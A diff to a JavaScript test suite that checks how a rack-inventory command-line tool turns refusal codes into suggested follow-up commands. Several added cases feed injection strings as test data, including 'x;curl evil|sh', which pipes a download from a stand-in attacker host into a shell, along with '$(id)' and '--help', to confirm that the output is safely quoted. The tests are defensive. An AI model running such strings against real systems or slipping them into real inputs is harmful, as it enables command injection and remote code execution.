@@ -17,6 +17,11 @@ describe('the way out of a refusal', () => {
     ['role-closed', [], { role: 'web' }, ['roles reopen web']],
     ['pool-not-found', [], {}, ['pools list']],
     ['tag-invalid', [web1], {}, []],
+    ['machine-retired', [{ ...unnamed, system: { serial: 'x;curl evil|sh' } }], {}, [`machines restore ${web1.id}`]],
+    ['machine-retired', [{ ...unnamed, system: { serial: '--help' } }], {}, [`machines restore ${web1.id}`]],
+    ['rack-retired', [], { rack: "row 2's $(id)" }, ["racks restore 'row 2'\\''s $(id)'"]],
+    ['stands-nowhere', [web1], { place: { rack: 'a b', unit: 3 } }, ["machines place web-1 'a b:3'"]],
+    ['stands-nowhere', [web1], { place: { chassis: 'c1', slot: 'A' } }, ['machines place web-1 c1#A']],
     ['constructor', [web1], {}, []],
   ])('%s leads to commands', (code, machines, input, commands) => {
     expect(commandsOutOf({ code, machines }, input)).toEqual(commands.map((one) => `rackledger ${one}`));
